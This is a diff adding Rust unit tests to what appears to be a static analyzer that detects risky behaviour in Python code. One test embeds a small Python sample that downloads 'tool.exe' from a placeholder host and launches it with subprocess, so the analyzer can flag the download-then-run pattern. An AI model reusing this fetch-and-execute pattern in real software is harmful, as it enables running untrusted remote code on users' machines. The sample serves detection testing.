@@ -413,3 +413,54 @@ fn compacted_copy_is_equal_and_owns_its_strings() {
     assert!(std::sync::Arc::ptr_eq(&same[0].value, &same[1].value));
     assert!(!c.events.is_empty());
 }
+
+#[test]
+fn helpers_that_download_to_and_run_their_argument_are_seen_at_the_call_site() {
+    let src = r#"
+import subprocess, requests
+def get(url, path):
+    r = requests.get(url)
+    with open(path, "wb") as f:
+        f.write(r.content)
+def start(p):
+    subprocess.Popen([p, "--quiet"])
+def unpack(archive):
+    subprocess.run(["tar", "xf", archive])
+def main():
+    exe = "tool.exe"
+    get("https://example.invalid/tool.exe", exe)
+    start(exe)
+    unpack(exe)
+"#;
+    let a = analyze_python(src.as_bytes(), FileRole::Module);
+    let at_main = |k: EventKind| -> Vec<(String, Option<String>)> {
+        a.events
+            .iter()
+            .filter(|e| e.kind == k && e.function.as_deref() == Some("main"))
+            .map(|e| (e.api.clone(), e.arg.clone()))
+            .collect()
+    };
+    assert_eq!(
+        at_main(EventKind::CallDownloadsTo),
+        vec![("get".to_owned(), Some("tool.exe".to_owned()))]
+    );
+    // `tar xf archive` starts tar, not the archive: no CallRuns for `unpack`.
+    assert_eq!(
+        at_main(EventKind::CallRuns),
+        vec![("start".to_owned(), Some("tool.exe".to_owned()))]
+    );
+}
+
+#[test]
+fn nth_arg_respects_brackets_strings_and_keywords() {
+    use assay_lang::nth_arg;
+    assert_eq!(nth_arg("open(p, 'wb')", 0), Some("p"));
+    assert_eq!(
+        nth_arg("Popen([exe, \"-q\"], cwd=d)", 0),
+        Some("[exe, \"-q\"]")
+    );
+    assert_eq!(nth_arg("f(\"a,b\", g(x, y))", 1), Some("g(x, y)"));
+    assert_eq!(nth_arg("run(cmd, shell=True)", 1), None);
+    assert_eq!(nth_arg("f()", 0), None);
+    assert_eq!(nth_arg("f(a, b", 1), None);
+}
